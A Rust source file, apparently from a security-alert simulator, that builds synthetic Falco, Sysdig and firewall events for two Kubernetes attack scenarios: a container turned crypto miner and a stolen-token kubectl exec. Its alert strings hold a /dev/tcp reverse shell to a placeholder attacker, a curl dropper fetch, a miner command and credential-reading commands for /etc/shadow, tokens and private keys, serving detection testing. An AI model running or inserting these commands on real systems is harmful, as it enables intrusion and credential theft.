//! Workload attacks in the Kubernetes cluster: an exploited container turned miner, and a
//! stolen service-account token used to exec into a pod.

use super::rules::*;
use super::{tcp, StoryCtx, StoryDef, MINUTE, SECOND};
use crate::estate::{Instance, Role};
use crate::falco::{AlertSpec, Shape};
use crate::panos::{Conn, Log};
use crate::simulate::{Loudness, StoryKind};
use crate::sysdig::{Command, KubeExec};
use crate::text::{hex, ipv4};

pub(super) const STORIES: &[&StoryDef] = &[&CONTAINER_MINER, &STOLEN_TOKEN_EXEC];

/// The cluster's name in Workload Protection labels.
const CLUSTER: &str = "prod-iks-us-south";

/// A pod of a deployment: `<prefix>-<replica set hash>-<pod hash>`.
fn pod_name(ctx: &mut StoryCtx<'_>, prefix: &str) -> String {
    format!("{prefix}-{}-{}", hex(&mut ctx.rng, 9), hex(&mut ctx.rng, 5))
}

const CONTAINER_MINER: StoryDef = StoryDef {
    id: "A12",
    name: "Exploited container turned crypto miner",
    description: "The checkout service's container is exploited: a reverse shell to the attacker, an interactive shell, curl fetching a dropper, a miner binary run from /tmp, then a Stratum connection to a mining pool on port 3333 that lasts the hour; the transit firewall classifies the pool's host as cryptocurrency.",
    kind: StoryKind::Attack,
    loudness: Loudness::Loud,
    techniques: &["T1190", "T1059.004", "T1105", "T1496"],
    at_ms: 13 * 3_600_000 + 10 * MINUTE,
    length_ms: 70 * MINUTE,
    expected: &[
        FALCO_REVERSE_SHELL,
        FALCO_TERMINAL_SHELL_IN_CONTAINER,
        FALCO_INGRESS_TOOL_TRANSFER,
        FALCO_CRYPTO_MINER,
        VPC_MINING_POOL_PORT,
        PANOS_URL_CRYPTOCURRENCY,
    ],
    build: container_miner,
};

fn container_miner(ctx: &mut StoryCtx<'_>) {
    let node = worker_of(ctx, 1);
    let (node_name, node_ip) = (node.name.clone(), node.ip);
    let attacker = ctx.fresh_ip();
    let pool = ctx.fresh_ip();
    ctx.name_ip(attacker, true);
    ctx.name_ip(pool, true);
    ctx.name_ip(node_ip, false);
    ctx.name_host(&node_name, false);
    let pod = pod_name(ctx, "checkout");
    let container = hex(&mut ctx.rng, 12);
    ctx.name_resource(&pod, true);
    ctx.name_resource(&container, true);
    let attacker_text = ipv4(attacker);
    let pool_text = ipv4(pool);
    let reverse_peer = format!("{attacker_text}:9443");
    let pool_peer = format!("{pool_text}:3333");
    let dropper = format!("curl -fsSL http://{attacker_text}:8080/x.sh -o /tmp/.x.sh");
    let miner = format!("/tmp/.cache/kworkerd -o {pool_text}:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --tls=false");
    let base = AlertSpec {
        rule: "",
        priority: "",
        description: "",
        tags: &[],
        shape: Shape::Exec,
        process: "",
        cmdline: "",
        object: "",
        parent: "",
        user: "www-data",
        host: &node_name,
        newer: true,
        namespace: "shop",
        pod: &pod,
        container_id: &container,
        image: Some("icr.io/example/checkout"),
    };
    let lines: Vec<(i64, AlertSpec<'_>)> = vec![
        (
            ctx.at(0),
            AlertSpec {
                rule: "Redirect STDOUT/STDIN to Network Connection in Container",
                priority: "Notice",
                description: "Redirect stdout/stdin to network connection",
                tags: &[
                    "T1059",
                    "container",
                    "maturity_stable",
                    "mitre_execution",
                    "network",
                    "process",
                ],
                shape: Shape::Network,
                process: "sh",
                cmdline: "sh -c sh -i >& /dev/tcp/ATTACKER/9443 0>&1",
                object: &reverse_peer,
                parent: "node",
                ..base.clone()
            },
        ),
        (
            ctx.at(2 * MINUTE),
            AlertSpec {
                rule: "Terminal shell in container",
                priority: "Notice",
                description: "A shell was spawned in a container with an attached terminal",
                tags: &[
                    "T1059",
                    "container",
                    "maturity_stable",
                    "mitre_execution",
                    "shell",
                ],
                shape: Shape::Shell,
                process: "bash",
                cmdline: "bash -i",
                parent: "python3",
                ..base.clone()
            },
        ),
        (
            ctx.at(3 * MINUTE),
            AlertSpec {
                rule: "Launch Ingress Remote File Copy Tools in Container",
                priority: "Notice",
                description: "Detected ingress remote file copy tool launched in container",
                tags: &[
                    "T1105",
                    "container",
                    "maturity_incubating",
                    "mitre_command_and_control",
                    "network",
                    "process",
                ],
                shape: Shape::Exec,
                process: "curl",
                cmdline: &dropper,
                parent: "bash",
                ..base.clone()
            },
        ),
        (
            ctx.at(5 * MINUTE),
            AlertSpec {
                rule: "Drop and execute new binary in container",
                priority: "Critical",
                description: "Executing binary not part of base image",
                tags: &[
                    "PCI_DSS_11.5.1",
                    "TA0003",
                    "container",
                    "maturity_stable",
                    "mitre_persistence",
                    "process",
                ],
                shape: Shape::Exec,
                process: "/tmp/.cache/kworkerd",
                cmdline: &miner,
                parent: "sh",
                ..base.clone()
            },
        ),
        (
            ctx.at(6 * MINUTE),
            AlertSpec {
                rule: "Detect outbound connections to common miner pool ports",
                priority: "Critical",
                description: "Outbound connection to IP/Port flagged by https://cryptoioc.ch",
                tags: &[
                    "T1496",
                    "host",
                    "container",
                    "maturity_sandbox",
                    "mitre_impact",
                    "network",
                ],
                shape: Shape::Network,
                process: "/tmp/.cache/kworkerd",
                cmdline: &miner,
                object: &pool_peer,
                parent: "sh",
                ..base.clone()
            },
        ),
    ];
    for (time, spec) in &lines {
        let cmdline = spec.cmdline.replace("ATTACKER", &attacker_text);
        let spec = AlertSpec {
            cmdline: &cmdline,
            ..spec.clone()
        };
        ctx.falco(*time, &spec);
    }

    // The network side: the reverse shell, the dropper download, the pool connection.
    let port = ctx.rng.range(40_000, 60_000);
    ctx.flow(tcp(
        ctx.at(0),
        9 * MINUTE,
        node_ip,
        port,
        attacker,
        9443,
        48_000,
        61_000,
    ));
    let port = ctx.rng.range(40_000, 60_000);
    ctx.flow(tcp(
        ctx.at(3 * MINUTE),
        2 * SECOND,
        node_ip,
        port,
        attacker,
        8080,
        900,
        6_400_000,
    ));
    let port = ctx.rng.range(40_000, 60_000);
    ctx.flow(tcp(
        ctx.at(6 * MINUTE),
        60 * MINUTE,
        node_ip,
        port,
        pool,
        3333,
        2_900_000,
        1_700_000,
    ));
    let conn = Conn {
        src: node_ip,
        dst: pool,
        nat_src: 0xa930_0001,
        nat_dst: pool,
        sport: port,
        dport: 3333,
        app: 0,
        inbound: false,
        rule: "allow-vpc-egress",
    };
    let log = Log::Threat {
        subtype: "url",
        action: "alert",
        misc: "pool.supportxmr.example/".to_owned(),
        threat_id: "(9999)",
        category: "cryptocurrency",
        severity: "informational",
        thr_category: "unknown",
    };
    ctx.panos(ctx.at(6 * MINUTE + 2 * SECOND), 0, &conn, &log);
}

const STOLEN_TOKEN_EXEC: StoryDef = StoryDef {
    id: "A13",
    name: "kubectl exec into a payments pod with a stolen service-account token",
    description: "A CI service account's token, stolen from a pipeline, is used from an outside address to `kubectl exec` a shell into the payments API pod; in it the intruder reads the pod's token and /etc/shadow and greps the application tree for private keys.",
    kind: StoryKind::Attack,
    loudness: Loudness::Loud,
    techniques: &["T1528", "T1609", "T1552.001", "T1003.008"],
    at_ms: 16 * 3_600_000 + 40 * MINUTE,
    length_ms: 20 * MINUTE,
    expected: &[
        SYSDIG_KUBECTL_EXEC,
        FALCO_TERMINAL_SHELL_IN_CONTAINER,
        FALCO_CREDENTIAL_SEARCH,
        FALCO_SENSITIVE_FILE_READ,
    ],
    build: stolen_token_exec,
};

fn stolen_token_exec(ctx: &mut StoryCtx<'_>) {
    let node = worker_of(ctx, 2);
    let node_name = node.name.clone();
    let intruder = ctx.fresh_ip();
    let intruder_text = ctx.name_ip(intruder, true);
    ctx.name_host(&node_name, false);
    let pod = pod_name(ctx, "payments-api");
    let container = hex(&mut ctx.rng, 12);
    ctx.name_resource(&pod, true);
    ctx.name_resource(&container, true);
    let account = "system:serviceaccount:ci:deployer";
    ctx.name_user(account, true);

    let exec = KubeExec {
        hostname: &node_name,
        namespace: "payments",
        pod: &pod,
        container: "payments-api",
        container_id: &container,
        command: "sh",
        username: account,
        groups: &[
            "system:serviceaccounts",
            "system:serviceaccounts:ci",
            "system:authenticated",
        ],
        source_address: &intruder_text,
        user_agent: "kubectl/v1.29.3 (linux/amd64) kubernetes/6813625",
        cluster: CLUSTER,
    };
    ctx.kube_exec(ctx.at(0), &exec);
    let base = AlertSpec {
        rule: "Terminal shell in container",
        priority: "Notice",
        description: "A shell was spawned in a container with an attached terminal",
        tags: &[
            "T1059",
            "container",
            "maturity_stable",
            "mitre_execution",
            "shell",
        ],
        shape: Shape::Shell,
        process: "sh",
        cmdline: "sh",
        object: "",
        parent: "runc",
        user: "root",
        host: &node_name,
        newer: true,
        namespace: "payments",
        pod: &pod,
        container_id: &container,
        image: Some("icr.io/example/payments-api"),
    };
    ctx.falco(ctx.at(SECOND), &base);
    let commands = [
        ("/usr/bin/id", "id"),
        (
            "/bin/cat",
            "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        ),
        ("/usr/bin/env", "env"),
        ("/bin/cat", "cat /etc/shadow"),
        (
            "/bin/grep",
            "grep -rl BEGIN RSA PRIVATE KEY /app /root /home",
        ),
    ];
    let mut time = ctx.at(20 * SECOND);
    for (exepath, cmdline) in commands {
        time += ctx.jitter(40 * SECOND) + 15 * SECOND;
        let command = Command {
            hostname: &node_name,
            namespace: "payments",
            pod: &pod,
            container_id: &container,
            cmdline,
            exepath,
            parent: "sh",
            username: "root",
            cluster: CLUSTER,
        };
        ctx.sysdig_command(time, &command);
        if cmdline == "cat /etc/shadow" {
            let spec = AlertSpec {
                rule: "Read sensitive file untrusted",
                priority: "Warning",
                description: "Sensitive file opened for reading by non-trusted program",
                tags: &[
                    "T1555",
                    "container",
                    "filesystem",
                    "host",
                    "maturity_stable",
                    "mitre_credential_access",
                ],
                shape: Shape::FileRead,
                process: "cat",
                cmdline,
                object: "/etc/shadow",
                parent: "sh",
                ..base.clone()
            };
            ctx.falco(time + 30, &spec);
        }
        if cmdline.starts_with("grep") {
            let spec = AlertSpec {
                rule: "Search Private Keys or Passwords",
                priority: "Warning",
                description: "Grep private keys or passwords activities found",
                tags: &[
                    "T1552.001",
                    "container",
                    "filesystem",
                    "host",
                    "maturity_stable",
                    "mitre_credential_access",
                    "process",
                ],
                shape: Shape::Exec,
                process: "grep",
                cmdline,
                object: "",
                parent: "sh",
                ..base.clone()
            };
            ctx.falco(time + 25, &spec);
        }
    }
}

/// Worker `n` of account 0 among those running the newer Falco (which names its host).
pub(super) fn worker_of<'a>(ctx: &StoryCtx<'a>, n: usize) -> &'a Instance {
    // Background Falco: worker `i` (in estate order) runs the newer Falco when `i % 3 != 2`.
    let index = [0, 1, 3, 4][n % 4];
    let estate: &'a crate::estate::Estate = ctx.estate;
    estate
        .instances
        .iter()
        .filter(|i| i.role == Role::Worker)
        .nth(index)
        .expect("the estate has six workers per account")
}
